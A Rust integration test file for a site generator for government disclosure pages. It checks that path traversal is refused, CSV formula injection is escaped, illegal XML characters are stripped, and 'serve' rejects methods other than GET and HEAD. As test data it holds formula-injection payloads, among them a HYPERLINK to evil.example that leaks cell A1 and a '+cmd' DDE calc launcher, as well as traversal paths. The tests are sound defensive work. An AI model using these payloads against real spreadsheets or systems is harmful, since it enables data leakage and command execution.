//! Issue 11 (publishing integrity), items 9–14: `new` outside `content/`, formula injection in
//! the CSV files, characters XML cannot carry, names too long for the file system, the build
//! date's timezone, `serve`'s HTTP methods, and what `load` used to skip without a word.

use std::io::{Read, Write};
use std::path::Path;
use std::process::Command;

use gongkai::diag::{Diagnostic, Severity};
use gongkai::pipeline;

use crate::harness::{self, doc, errors, fixture, Site};

const BIN: &str = env!("CARGO_BIN_EXE_gongkai");

fn findings<'a>(diags: &'a [Diagnostic], rule: &str, file: &str) -> Vec<&'a Diagnostic> {
    diags
        .iter()
        .filter(|d| d.rule.as_str() == rule && d.file == Path::new(file))
        .collect()
}

/// The findings `check` reports (severities applied).
fn checked(s: &Site) -> Vec<Diagnostic> {
    let p = pipeline::prepare(&s.options()).expect("config reads");
    p.site.config.rules.apply(p.diagnostics)
}

// ---- 9. `gongkai new` writes only under content/ ----

#[test]
fn r11_9_new_refuses_paths_outside_content_before_reserving_a_number() {
    let s = Site::new();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), s.root().join("content/out")).unwrap();
    let abs_outside = outside.path().join("abs.md");
    let abs_root = s.root().join("x.md");
    let refused: Vec<&str> = vec![
        "../../x.md",
        "../x.md",
        "content/../x.md",
        "2026/../../x.md",
        "out/x.md",
        "out/sub/x.md",
        abs_outside.to_str().unwrap(),
        abs_root.to_str().unwrap(),
        ".hidden/x.md",
        "content",
    ];
    let new = |path: &str| {
        Command::new(BIN)
            .args(["new", "--today", harness::TODAY, "--root"])
            .arg(s.root())
            .arg(path)
            .output()
            .unwrap()
    };
    for path in refused {
        let out = new(path);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{path}: {err}");
        let msg = err.trim_start_matches("gongkai: ");
        assert!(msg.starts_with("路径"), "{path}: Chinese first: {err}");
        assert!(err.contains(path), "{path}: names the path: {err}");
        assert!(
            !s.root().join("gongkai-ledger.tsv").exists(),
            "{path}: a refused path reserved a number"
        );
    }
    let stray: Vec<_> = walkdir::WalkDir::new(outside.path())
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .collect();
    assert!(stray.is_empty(), "written outside content/: {stray:?}");
    assert!(!s.root().join("x.md").exists());

    // Folded paths that stay inside, and an absolute path inside content/, are accepted.
    let inside_abs = s.root().join("content/2026/b.md");
    for (path, written) in [
        ("2026/../2026/a.md", "content/2026/a.md"),
        (inside_abs.to_str().unwrap(), "content/2026/b.md"),
    ] {
        let out = new(path);
        assert!(
            out.status.success(),
            "{path}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), written);
        assert!(s.root().join(written).is_file());
    }
    let ledger = std::fs::read_to_string(s.root().join("gongkai-ledger.tsv")).unwrap();
    assert!(ledger.contains("\tcontent/2026/a.md"), "{ledger}");
    assert!(ledger.contains("\tcontent/2026/b.md"), "{ledger}");
    assert_eq!(ledger.lines().filter(|l| l.contains("13502/")).count(), 2);
}

// ---- 10. No formula in the CSV files ----

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击查看")"#;
const CALC: &str = "+cmd|' /C calc'!A0";

/// The rows of a CSV file the build wrote (BOM stripped), header first.
fn csv_rows(s: &Site, rel: &str) -> Vec<Vec<String>> {
    let bytes = std::fs::read(s.public().join(rel)).unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn r11_10_csv_cells_never_start_a_formula_and_json_keeps_the_data() {
    let s = Site::new();
    let yaml = |t: &str| t.replace('\\', "\\\\").replace('"', "\\\"");
    s.file(
        "a.md",
        &doc(
            "13502/2024-00001",
            &yaml(HYPERLINK),
            &format!("summary: \"{}\"\n", yaml(CALC)),
            "正文",
        ),
    );
    // A 行政规范性文件 is in the register too.
    s.file(
        "b.md",
        &doc(
            "13502/2024-00002",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "doc_no: \"承市政规〔2024〕1号\"\nvalidity: \"有效\"\neffective: \"2024-02-01\"\nexpires: \"2029-01-31\"\nsummary: \"-2+3\"\n",
            "正文",
        )
        .replace("kind: \"其他文件\"\nitem: \"20.15\"\n", "kind: \"行政规范性文件\"\nitem: \"20.1\"\n"),
    );
    let r = s.build();
    assert!(r.written, "{:#?}", errors(&r));

    let catalogue = csv_rows(&s, "catalogue.csv");
    let col = |name: &str| catalogue[0].iter().position(|h| h == name).unwrap();
    let row = |no: &str| catalogue.iter().find(|r| r[0] == no).unwrap();
    assert_eq!(
        row("13502/2024-00001")[col("名称")],
        format!("'{HYPERLINK}")
    );
    assert_eq!(row("13502/2024-00001")[col("内容概述")], format!("'{CALC}"));
    assert_eq!(row("13502/2024-00002")[col("内容概述")], "'-2+3");
    let register = csv_rows(&s, "register.csv");
    let title = register[0].iter().position(|h| h == "名称").unwrap();
    assert_eq!(register[1][title], "'@SUM(1+1)*cmd|' /C calc'!A0");
    for (file, rows) in [("catalogue.csv", &catalogue), ("register.csv", &register)] {
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{file}: cell {cell:?} would run as a formula"
            );
        }
    }

    // The JSON files are data for programs: exactly what the documents say.
    let json: serde_json::Value = serde_json::from_str(&s.read("catalogue.json")).unwrap();
    let docs = json["documents"].as_array().unwrap();
    let a = docs
        .iter()
        .find(|d| d["index_no"] == "13502/2024-00001")
        .unwrap();
    assert_eq!(a["title"], HYPERLINK);
    assert_eq!(a["summary"], CALC);
    let json: serde_json::Value = serde_json::from_str(&s.read("register.json")).unwrap();
    assert_eq!(json["documents"][0]["title"], "@SUM(1+1)*cmd|' /C calc'!A0");
}

// ---- 11. Feeds and sitemaps stay well-formed XML ----

#[test]
fn r11_11_feeds_and_sitemap_parse_whatever_the_text_holds_and_check_warns() {
    let s = Site::new();
    s.file(
        "a.md",
        &doc(
            "13502/2024-00001",
            "标题\\uFFFF含\\uFFFE非法\\u0001字符",
            "summary: \"概述\\u000B与\\uFDD0\"\n",
            "正文",
        ),
    );
    // No summary: the feed shows the start of the body, with its bad characters.
    s.file(
        "b.md",
        &doc(
            "13502/2024-00002",
            "第二份",
            "issuer: \"市政府办公室\\uFFFF\"\n",
            "第一行\n\n第二行\u{FFFE}有\u{1}控制符\u{10FFFF}\n",
        )
        .replace("issuer: \"市政府办公室\"\n", ""),
    );
    let r = s.build();
    assert!(r.written, "{:#?}", errors(&r));
    let mut xml_files = 0;
    for (path, bytes) in harness::tree(&s.public()) {
        if !path.ends_with(".xml") {
            continue;
        }
        xml_files += 1;
        let text = String::from_utf8(bytes).unwrap();
        if let Err(e) = roxmltree::Document::parse(&text) {
            panic!("{path} is not well-formed XML: {e}");
        }
    }
    assert!(xml_files >= 3, "feeds and sitemap: {xml_files}");
    let feed = s.read("atom.xml");
    assert!(feed.contains("<title>标题含非法字符</title>"), "{feed}");
    assert!(feed.contains("第二行有控制符"), "{feed}");
    let parsed = roxmltree::Document::parse(&feed).unwrap();
    assert!(parsed
        .descendants()
        .any(|n| n.has_tag_name("summary") && n.text() == Some("概述与")));

    let d = checked(&s);
    let a = findings(&d, "E013", "content/a.md");
    let got: Vec<_> = a.iter().map(|d| (d.field.as_deref(), d.line)).collect();
    assert_eq!(
        got,
        vec![(Some("title"), Some(2)), (Some("summary"), Some(11))]
    );
    assert!(a[0].message.contains("U+FFFF") && a[0].message.contains("U+FFFE"));
    let b = findings(&d, "E013", "content/b.md");
    let got: Vec<_> = b.iter().map(|d| (d.field.as_deref(), d.line)).collect();
    assert_eq!(got, vec![(Some("issuer"), Some(10)), (None, Some(15))]);
    assert!(d
        .iter()
        .filter(|d| d.rule == gongkai::diag::Code::E013)
        .all(|d| d.severity == Severity::Warn));
}

/// The load stage rejects what Rust strings cannot hold: lone surrogates, as UTF-8 bytes or as
/// YAML escapes, are findings with a line, never replacement characters in the output.
#[test]
fn r11_11_lone_surrogates_are_refused_at_load_with_a_line() {
    let s = Site::new();
    // CESU-8 of U+D800 in the body; a YAML escape of a lone surrogate in the title.
    let mut bytes = doc("13502/2024-00001", "标题", "", "正文").into_bytes();
    bytes.extend_from_slice(b"\xED\xA0\x80\n");
    s.bytes("a.md", &bytes);
    s.file("b.md", &doc("13502/2024-00002", "标题\\uD800", "", "正文"));
    let d = checked(&s);
    let a = findings(&d, "E001", "content/a.md");
    assert_eq!(a.len(), 1, "{d:#?}");
    assert_eq!(a[0].line, Some(14));
    let b = findings(&d, "E003", "content/b.md");
    assert_eq!(b.len(), 1, "{d:#?}");
    assert!(b[0].line.is_some());
    assert!(d.iter().all(|d| d.severity != Severity::Error
        || d.file.starts_with("content/a.md")
        || d.file.starts_with("content/b.md")));
}

// ---- 12. Names the file system can hold ----

#[test]
fn r11_12_long_index_numbers_fail_check_with_file_line_and_field() {
    let s = Site::new();
    let long = format!("13502/2024-{}", "1".repeat(289));
    assert_eq!(long.chars().count(), 300);
    s.file("long.md", &doc(&long, "长索引号", "", "正文"));
    // 80 Chinese characters: 240 bytes, once too long as a folder name; the catalogue folder is
    // now its short ASCII code (issue 16), so it is fine.
    let issuer = "市".repeat(80);
    s.file(
        "issuer.md",
        &doc("13502/2024-00002", "长机构名", "", "正文")
            .replace("issuer: \"市政府办公室\"", &format!("issuer: \"{issuer}\"")),
    );
    // At the limit: a 200-byte name (195 characters and `.html`) is fine, 201 is not.
    let edge_ok = format!("13502/{}", "a".repeat(195));
    let edge_bad = format!("13502/{}", "b".repeat(196));
    s.file("edge-ok.md", &doc(&edge_ok, "恰好", "", "正文"));
    s.file("edge-bad.md", &doc(&edge_bad, "超出", "", "正文"));

    let out = Command::new(BIN)
        .args(["check", "--format", "json", "--root"])
        .arg(s.root())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let e012: Vec<(String, u64, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "E012")
        .map(|f| {
            (
                f["file"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
                f["field"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let want = |f: &str, l, k: &str| (f.to_string(), l, k.to_string(), "error".to_string());
    assert_eq!(
        e012,
        vec![
            want("content/edge-bad.md", 3, "index_no"),
            want("content/long.md", 3, "index_no"),
        ]
    );

    let out = Command::new(BIN)
        .args(["build", "--today", harness::TODAY, "--root"])
        .arg(s.root())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("content/long.md:3"), "{err}");
    assert!(
        !err.contains("File name too long") && !err.contains("os error"),
        "{err}"
    );
    assert!(!s.public().exists());
}

#[test]
fn r11_12_names_longer_than_the_file_system_allows_never_reach_write() {
    let files = [
        gongkai::write::OutputFile {
            path: format!("static/{}.pdf", "长".repeat(90)),
            bytes: vec![],
        },
        gongkai::write::OutputFile {
            path: format!("xxgk/{}.html", "a".repeat(251)),
            bytes: vec![],
        },
        gongkai::write::OutputFile {
            path: format!("xxgk/{}.html", "a".repeat(250)),
            bytes: vec![],
        },
    ];
    let paths: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
    let d = gongkai::check::output::unwritable_outputs(&paths, &|p| {
        p.starts_with("xxgk/").then(|| "content/a.md".into())
    });
    let got: Vec<_> = d.iter().map(|d| (d.rule, d.file.clone())).collect();
    assert_eq!(got.len(), 2, "{d:#?}");
    assert!(got[0].1.starts_with("public/static"));
    assert_eq!(got[1].1, Path::new("content/a.md"));
    assert!(gongkai::diag::rule_by_code("E012").is_some_and(|r| !r.configurable));
}

// ---- 13. The build date is the date in the site's timezone ----

#[test]
fn r11_13_a_document_dated_today_in_beijing_is_published_at_20_00_utc_the_day_before() {
    let at = "2026-11-25T20:00:00Z".parse().unwrap();
    let page = "xxgk/13502/2024-00001.html";
    let compile = |timezone: &str| {
        let s = fixture("small");
        s.edit(
            "content/a.md",
            "published: \"2024-01-05\"",
            "published: \"2026-11-26\"",
        );
        let config = s.text("gongkai.toml");
        std::fs::write(s.root().join("gongkai.toml"), format!("{timezone}{config}")).unwrap();
        let mut o = s.options();
        o.today = None;
        o.now = Some(at);
        o.skip_search = true;
        let c = pipeline::compile(&o);
        (
            c.files.iter().any(|f| f.path == page),
            c.site.map(|s| s.today),
        )
    };
    let cst = compile("");
    assert_eq!(cst, (true, Some("2026-11-26".parse().unwrap())));
    // An office that writes its dates in UTC−5 has not reached the 26th yet.
    let (published, today) = compile("timezone = \"-05:00\"\n");
    assert_eq!(
        (published, today),
        (false, Some("2026-11-25".parse().unwrap()))
    );
}

/// Builds the same site on "servers" in UTC−12 and UTC+14 (their dates always differ) without
/// `--today`: the outputs are identical, and the build date is Beijing's.
#[test]
fn r11_13_builds_in_any_machine_timezone_are_byte_identical() {
    let s = fixture("small");
    let beijing_today = || {
        (chrono::Utc::now() + chrono::TimeDelta::hours(8))
            .date_naive()
            .to_string()
    };
    let build = |tz: &str, out: &str| {
        let o = Command::new(BIN)
            .env("TZ", tz)
            .args(["build", "-q", "--root"])
            .arg(s.root())
            .arg("--output")
            .arg(s.root().join(out))
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        harness::tree(&s.root().join(out))
    };
    // Two tries: the builds may straddle midnight in Beijing.
    for attempt in 0..2 {
        let before = beijing_today();
        let west = build("Etc/GMT+12", &format!("west{attempt}"));
        let east = build("Etc/GMT-14", &format!("east{attempt}"));
        if beijing_today() != before {
            continue;
        }
        let names = |t: &[(String, Vec<u8>)]| t.iter().map(|(p, _)| p.clone()).collect::<Vec<_>>();
        assert_eq!(names(&west), names(&east));
        let differ: Vec<&String> = west
            .iter()
            .zip(&east)
            .filter(|(a, b)| a.1 != b.1)
            .map(|(a, _)| &a.0)
            .collect();
        assert!(differ.is_empty(), "differ between zones: {differ:?}");
        let json: serde_json::Value =
            serde_json::from_slice(&west.iter().find(|(p, _)| p == "catalogue.json").unwrap().1)
                .unwrap();
        assert_eq!(json["generated"], before.as_str());
        return;
    }
    panic!("midnight in Beijing twice during two builds");
}

// ---- 14. serve: GET and HEAD only; nothing ignored silently ----

/// A raw request: (status, headers, body).
fn request(url: &str, method: &str, path: &str) -> (u16, String, Vec<u8>) {
    let addr = url.trim_start_matches("http://").trim_end_matches('/');
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| i + 4)
        .unwrap_or(raw.len());
    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, head, raw[split..].to_vec())
}

#[test]
fn r11_14_serve_answers_get_and_head_and_refuses_other_methods_with_405() {
    let s = fixture("small");
    let mut build = s.options();
    build.root = s.root().canonicalize().unwrap();
    let server = gongkai::serve::start(gongkai::serve::ServeOptions {
        build,
        bind: "127.0.0.1".into(),
        port: 0,
        verbose: false,
        quiet: true,
    })
    .expect("serve starts");
    let page = "/xxgk/13502/2024-00001.html";
    let (status, _, body) = request(&server.url, "GET", page);
    assert_eq!(status, 200);
    assert!(String::from_utf8_lossy(&body).contains("正文甲"));
    let (status, head, body) = request(&server.url, "HEAD", page);
    assert_eq!(status, 200, "{head}");
    assert!(body.is_empty(), "HEAD has no body");
    for method in ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"] {
        for path in [page, "/", "/nope.html", "/__gongkai/events"] {
            let (status, head, _) = request(&server.url, method, path);
            assert_eq!(status, 405, "{method} {path}: {head}");
            assert!(
                head.to_ascii_lowercase()
                    .contains("\r\nallow: get, head\r\n"),
                "{method} {path}: {head}"
            );
        }
    }
    // The site is unchanged and still served.
    assert_eq!(request(&server.url, "GET", page).0, 200);
}

#[test]
fn r11_14_symlinks_and_unreadable_attachments_are_warned_about_in_build_and_serve() {
    let s = Site::new();
    let outside = tempfile::tempdir().unwrap();
    let marker = "SYMLINKED-OUTSIDE-4f2a";
    std::fs::write(
        outside.path().join("doc.md"),
        doc("13502/2024-00009", marker, "", marker),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("doc.md"),
        s.root().join("content/linked.md"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), s.root().join("content/dir")).unwrap();
    s.file(
        "a.md",
        &doc("13502/2024-00001", "甲", "attachments: 5\n", "正文甲"),
    );
    s.file(
        "b.md",
        &doc(
            "13502/2024-00002",
            "乙",
            "attachments: [5, true, \"b.txt\"]\n",
            "正文乙",
        ),
    );
    s.file("b.txt", "附件");
    let r = s.build();
    assert!(r.written, "{:#?}", errors(&r));
    let d = &r.compiled.diagnostics;
    for f in ["content/linked.md", "content/dir"] {
        let w = findings(d, "E001", f);
        assert_eq!(w.len(), 1, "{f}: {d:#?}");
        assert_eq!(w[0].severity, Severity::Warn);
        assert!(w[0].message.contains("符号链接"), "{}", w[0].message);
    }
    let a = findings(d, "E005", "content/a.md");
    assert_eq!(a.len(), 1, "{d:#?}");
    assert_eq!(
        (a[0].line, a[0].field.as_deref(), a[0].severity),
        (Some(11), Some("attachments"), Severity::Warn)
    );
    assert!(a[0].message.contains("“5”"), "{}", a[0].message);
    assert_eq!(findings(d, "E005", "content/b.md").len(), 2);
    assert!(
        s.public().join("b.txt").is_file(),
        "the listed file is still published"
    );
    for (path, bytes) in harness::tree(&s.public()) {
        assert!(
            !String::from_utf8_lossy(&bytes).contains(marker),
            "a symlinked document reached {path}"
        );
    }

    // serve reads files one at a time: the same links are skipped, and said so.
    let mut opts = s.options();
    opts.skip_search = true;
    let mut engine = gongkai::serve::Engine::new(opts);
    let first = engine.full();
    assert!(first.published);
    assert_eq!(
        findings(&first.diagnostics, "E001", "content/linked.md").len(),
        1
    );
    std::os::unix::fs::symlink(
        outside.path().join("doc.md"),
        s.root().join("content/again.md"),
    )
    .unwrap();
    std::fs::write(
        outside.path().join("new.md"),
        doc("13502/2024-00010", marker, "", marker),
    )
    .unwrap();
    let after = engine.content(&["content/again.md".into(), "content/dir/new.md".into()]);
    assert!(after.published, "{:#?}", after.diagnostics);
    assert_eq!(
        findings(&after.diagnostics, "E001", "content/again.md").len(),
        1
    );
    engine.finish();
    for (path, bytes) in engine.site.iter() {
        assert!(
            !String::from_utf8_lossy(bytes).contains(marker),
            "serve published a symlinked document at {path}"
        );
    }
}
